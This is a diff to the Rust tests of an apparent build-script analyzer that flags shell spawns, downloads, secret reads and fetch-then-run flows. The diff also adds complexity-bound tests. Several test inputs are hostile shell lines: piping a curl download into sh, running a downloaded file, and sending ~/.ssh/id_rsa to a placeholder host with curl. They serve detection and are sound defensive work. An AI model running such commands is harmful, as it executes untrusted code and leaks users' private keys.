@@ -2,7 +2,6 @@
 
 use std::collections::BTreeSet;
 use std::sync::OnceLock;
-use std::time::{Duration, Instant};
 
 use super::*;
 
@@ -287,12 +286,11 @@ fn nothing_that_nests_or_chains_can_break_the_reader() {
         repeated("/*", "", "*/"),
         repeated("r#", "\"\"", "#"),
     ];
-    // A coarse bound that only what grows with the square exceeds: the machine may be busy.
     for text in texts {
-        let began = Instant::now();
         let facts = build(&text);
         let shown = text.chars().take(60).collect::<String>();
-        assert!(began.elapsed() < Duration::from_mins(1), "{shown}: {:?}", began.elapsed());
+        // One expression or token at a time, and none twice.
+        assert!(facts.work <= text.len() as u64, "{shown}: {} steps", facts.work);
         assert!(facts.unparsed.len() <= 1, "{shown}");
     }
 }
@@ -329,13 +327,12 @@ fn what_the_limits_let_pass_fits_the_stack() {
 }
 
 #[test]
-fn a_source_of_50_megabytes_is_a_fact_and_takes_no_time() {
+fn a_source_of_50_megabytes_is_a_fact_and_only_its_beginning_is_read() {
     let mut text = "fn main() { std::process::Command::new(\"sh\"); ".to_owned();
     text.push_str(&"12345678, ".repeat(5 << 20));
-    let began = Instant::now();
     let facts = build(&text);
-    assert!(began.elapsed() < Duration::from_mins(1), "{:?}", began.elapsed());
     assert!(facts.unparsed[0].reason.contains("too many"));
+    assert!(facts.work <= limits::SCANNED_BYTES as u64, "{} steps", facts.work);
     assert!(names(&facts).contains("shell"));
 }
 
@@ -544,4 +541,97 @@ fn every_truncation_of_a_build_script_is_read() {
         let entry = Entry { roots: vec!["build.rs".to_owned()], ..Entry::default() };
         assert!(read(&sources, &entry, table()).unparsed.len() <= 1);
     }
+}
+
+#[test]
+fn a_function_that_is_called_from_everywhere_is_walked_once() {
+    // Each function calls the next one twice: followed at every call, that would be 2^60 walks.
+    let mut text = "fn main() { f0(1); }\n".to_owned();
+    for index in 0..60 {
+        let next = index + 1;
+        text.push_str(&format!("fn f{index}(x: u8) -> u8 {{ f{next}(x) + f{next}(x) }}\n"));
+    }
+    text.push_str("fn f60(x: u8) -> u8 { std::process::Command::new(\"sh\"); x }\n");
+    let facts = build(&text);
+    assert!(facts.work < 1_000, "{} steps", facts.work);
+    assert!(names(&facts).contains("shell"));
+}
+
+#[test]
+fn too_many_expressions_are_a_limit_that_is_told() {
+    let line = "999,".repeat(380_000);
+    let files: Vec<(String, String)> =
+        (0..4).map(|n| (format!("m{n}.rs"), format!("fn f() {{ [{line}]; }}"))).collect();
+    let mut root = "fn main() {}\n".to_owned();
+    (0..4).for_each(|n| root.push_str(&format!("mod m{n};\n")));
+    let mut all: Vec<(&str, &str)> =
+        files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+    all.push(("build.rs", &root));
+    let facts = read_files(&all, "build.rs");
+    assert!(facts.unparsed.iter().any(|u| u.reason.contains("too many expressions")));
+}
+
+#[test]
+fn a_parameter_is_settled_where_the_function_is_called() {
+    let facts = build(
+        "use std::process::Command; use std::path::Path;
+         fn run(program: &str, arguments: &[&str]) { Command::new(program).args(arguments).status().unwrap(); }
+         fn outer(tool: &str) { run(tool, &[\"-O\", \"https://example.invalid/a\"]); }
+         fn load(name: &str) -> Vec<u8> { std::fs::read(Path::new(\"tests\").join(name)).unwrap() }
+         fn ask(name: &str) -> String { std::env::var(name).unwrap() }
+         fn main() { outer(\"wget\"); load(\"a.bin\"); ask(\"NPM_TOKEN\"); ask(\"OUT_DIR\"); }",
+    );
+    assert!(facts.spawned.iter().any(|s| s.program == "wget" && s.arguments.len() == 2));
+    assert!(facts.reads.iter().any(|read| read.path == "tests/a.bin" && read.whole));
+    let seen = names(&facts);
+    assert!(seen.contains("download") && seen.contains("secret-read"), "{seen:?}");
+    assert!(facts.variables.contains(&"OUT_DIR".to_owned()));
+}
+
+#[test]
+fn a_line_of_shell_is_read_as_its_programs() {
+    let shell = |line: &str| {
+        build(&format!(
+            "fn main() {{ std::process::Command::new(\"sh\").args([\"-c\", {line:?}]).status(); }}"
+        ))
+    };
+    let flow = |facts: &CodeFacts| {
+        facts.flows.iter().map(|f| (f.source, f.sink, f.executed)).collect::<Vec<_>>()
+    };
+    let piped = shell("curl -fsSL https://example.invalid/i | sh");
+    assert_eq!(flow(&piped), [(StepKind::Fetch, StepKind::Spawn, true)]);
+    let stored = shell("wget -q https://example.invalid/t -O /tmp/t && /tmp/t --now");
+    assert!(flow(&stored).contains(&(StepKind::Fetch, StepKind::Spawn, true)), "{stored:?}");
+    let decoded = shell("tail -c +9 tests/a.lzma | xz -dc | bash");
+    assert_eq!(flow(&decoded), [(StepKind::Read, StepKind::Spawn, true)]);
+    assert!(decoded.reads.iter().any(|read| read.path == "tests/a.lzma"));
+    let sent = shell("cat $HOME/.ssh/id_rsa | curl -d @- https://example.invalid/");
+    assert!(names(&sent).contains("secret-read") && names(&sent).contains("network"));
+    // Nothing is run that was not there before.
+    for line in
+        ["git rev-parse HEAD | cut -c1-7", "echo $(rustc --version) > version.txt", "make -j4"]
+    {
+        assert_eq!(flow(&shell(line)), [], "{line}");
+        assert!(!names(&shell(line)).contains("network"), "{line}");
+    }
+}
+
+#[test]
+fn a_program_that_only_moves_data_does_not_run_it() {
+    let facts = build(
+        "use std::process::Command; fn main() { let out = std::env::var(\"OUT_DIR\").unwrap();
+         let to = format!(\"{out}/a.tgz\"); Command::new(\"curl\").arg(\"-o\").arg(&to).arg(\"https://example.invalid/a\").status();
+         Command::new(\"tar\").args([\"xzf\", &to, \"-C\", &out]).status(); }",
+    );
+    assert!(facts.flows.iter().all(|flow| flow.sink != StepKind::Spawn), "{:?}", flow_of(&facts));
+}
+
+#[test]
+fn a_glob_of_another_crate_does_not_hide_what_is_written_out() {
+    let facts = build(
+        "use base64::prelude::*; fn main() { let p = String::from(\"curl\");
+         std::process::Command::new(p).arg(\"x\").status(); BASE64_STANDARD.decode(\"aaaa\"); }",
+    );
+    let seen = names(&facts);
+    assert!(["decode", "download", "spawn"].iter().all(|n| seen.contains(n)), "{seen:?}");
 }
